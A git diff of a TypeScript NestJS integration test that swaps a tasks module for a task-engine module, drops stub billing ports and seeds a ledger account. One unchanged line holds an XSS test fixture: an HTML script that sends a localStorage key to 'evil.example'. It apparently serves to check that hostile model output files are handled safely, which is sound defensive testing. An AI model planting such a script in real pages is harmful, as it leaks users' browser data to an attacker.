@@ -5,6 +5,7 @@ import { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Test, TestingModule } from '@nestjs/testing';
+import { LedgerRepository } from '@genhub/billing-data-access';
 import {
   ConfigModule,
   DatabaseConfig,
@@ -26,37 +27,11 @@ import {
 } from '@genhub/providers';
 import { QueueModule } from '@genhub/queue';
 import { OBJECT_STORAGE, ObjectStorage, StorageModule } from '@genhub/storage';
+import { GetResultUseCase } from '@genhub/tasks-feature';
 import { FakeFal, TINY_PNG } from '@genhub/testing';
-import { RESERVATION_PORT, ReservationPort } from './ports/reservation.port';
-import { SETTLEMENT_PORT, SettlementPort } from './ports/settlement.port';
-import { WEBHOOK_DELIVERY_PORT, WebhookDeliveryPort } from './ports/webhook-delivery.port';
-import { TasksFeatureModule } from './tasks-feature.module';
-import { GetResultUseCase } from './use-cases/get-result/get-result.use-case';
-import { RunTaskUseCase } from './use-cases/run-task/run-task.use-case';
-import { SubmitTaskUseCase } from './use-cases/submit-task/submit-task.use-case';
-
-/** Always reserves (nothing for real). */
-const reservation: ReservationPort = {
-  reservationCte: (request) => ({
-    sql: `reserved AS (SELECT $1::text AS task_id)`,
-    params: [request.taskId],
-    yields: 'reserved',
-  }),
-  shortfall: () => Promise.reject(new Error('shortfall asked after a reservation')),
-};
-/** Settles nothing: the run's terminal statement needs a CTE that yields. */
-const settlement: SettlementPort = {
-  settlementCte: (request) => ({
-    sql: `settled AS (SELECT $1::uuid AS task_id)`,
-    params: [request.taskId],
-    yields: 'settled',
-  }),
-};
-const webhookDelivery: WebhookDeliveryPort = {
-  deliveryCte: () => {
-    throw new Error('no webhook expected');
-  },
-};
+import { RunTaskUseCase } from './run/run-task.use-case';
+import { SubmitTaskUseCase } from './submit/submit-task.use-case';
+import { TaskEngineModule } from './task-engine.module';
 
 const SCRIPT = '<!doctype html><script>fetch("//evil.example/?k="+localStorage.key(0))</script>';
 
@@ -134,13 +109,8 @@ describe('output files of an upstream model (PostgreSQL + Redis + fake fal + loc
         DatabaseModule,
         QueueModule.forRoot(),
         StorageModule.forRoot(),
-        TasksFeatureModule.forGateway({
-          reservation: { provide: RESERVATION_PORT, useValue: reservation },
-        }),
-        TasksFeatureModule.forWorker({
-          settlement: { provide: SETTLEMENT_PORT, useValue: settlement },
-          webhookDelivery: { provide: WEBHOOK_DELIVERY_PORT, useValue: webhookDelivery },
-        }),
+        TaskEngineModule.forGateway(),
+        TaskEngineModule.forWorker(),
       ],
     })
       .overrideProvider(ModelCatalogue)
@@ -153,6 +123,9 @@ describe('output files of an upstream model (PostgreSQL + Redis + fake fal + loc
     run = moduleRef.get(RunTaskUseCase);
     result = moduleRef.get(GetResultUseCase);
     storage = moduleRef.get(OBJECT_STORAGE);
+    await moduleRef
+      .get(LedgerRepository)
+      .openAccount({ accountId, currency: 'USD', initialUnits: 10_000_000_000 });
   });
 
   afterAll(async () => {
